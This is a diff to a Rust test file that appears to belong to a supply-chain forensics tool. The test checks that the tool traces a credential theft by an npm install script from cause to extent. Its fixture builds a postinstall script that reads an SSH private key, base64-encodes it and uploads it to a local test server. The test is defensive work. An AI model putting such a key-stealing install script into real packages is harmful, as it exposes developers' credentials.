@@ -5,7 +5,7 @@ use backstory_testkit::need::needs;
 use serde_json::Value;
 
 use super::Place;
-use super::hunt::{LoopbackServer, found, npm, only_found};
+use super::hunt::{LoopbackServer, found, installed_by_npm, npm, only_found};
 
 fn names(files: &Value) -> Vec<&str> {
     files
@@ -226,7 +226,9 @@ fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
     };
     let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
     npm(&place, &script);
-    let run = place.record("./npm install");
+    let Some(run) = installed_by_npm(&place, "sh package/postinstall.sh") else {
+        return;
+    };
     let address = server.end();
     let mut rules = Vec::new();
     for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
